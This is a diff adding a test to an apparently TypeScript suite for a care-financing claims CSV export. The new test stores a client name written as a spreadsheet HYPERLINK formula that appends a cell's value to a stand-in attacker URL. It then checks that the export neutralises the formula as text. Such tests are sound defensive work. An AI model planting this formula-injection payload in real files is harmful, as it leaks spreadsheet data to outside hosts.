@@ -73,6 +73,19 @@ describe('financing: costs per financier and monthly claims', () => {
     assert.match(line!, /;zvw;Hoeksche Waard;Jan Bakker;1951-05-05;123456782;Zoomwijck;elv_high_complex;4;1080,00$/);
   });
 
+  it('exports a name typed as a spreadsheet formula as text, not as a live formula', async () => {
+    const db = t.database.db;
+    const attacker = await db.insertInto('client').values({ name: '=HYPERLINK("https://evil.example/?"&G2;"Open")', pc4: '3262' }).returning('id').executeTakeFirstOrThrow();
+    const unitId = await aUnit(db, await aLocation(db, await aRegion(db), { name: 'Zoomwijck' }), { accepted: ['elv_high_complex'] });
+    await db.insertInto('location_tariff').values({ location_id: (await db.selectFrom('capacity_unit').select('location_id').where('id', '=', unitId).executeTakeFirstOrThrow()).location_id,
+      stay_type: 'elv_high_complex', housing_cents: 100, stay_cents: 100, care_cents: 100, valid_from: '2026-01-01', valid_until: null }).execute();
+    await sql`INSERT INTO stay (unit_id, client_id, stay_type, arrival, departure, status)
+      VALUES (${unitId}, ${attacker.id}, 'elv_high_complex', '2026-11-02', '2026-11-04', 'departed')`.execute(db);
+    const csv = await t.inject({ method: 'GET', url: '/api/claims.csv?month=2026-11&financier=zvw' });
+    assert.equal(csv.statusCode, 200, csv.body);
+    assert.ok(csv.body.includes(';"\'=HYPERLINK(""https://evil.example/?""&G2;""Open"")";'), csv.body);
+  });
+
   it('refuses a month that is not a month', async () => {
     const response = await t.inject({ method: 'GET', url: '/api/claims?month=2026-13&financier=wmo' });
     assert.equal(response.statusCode, 400);
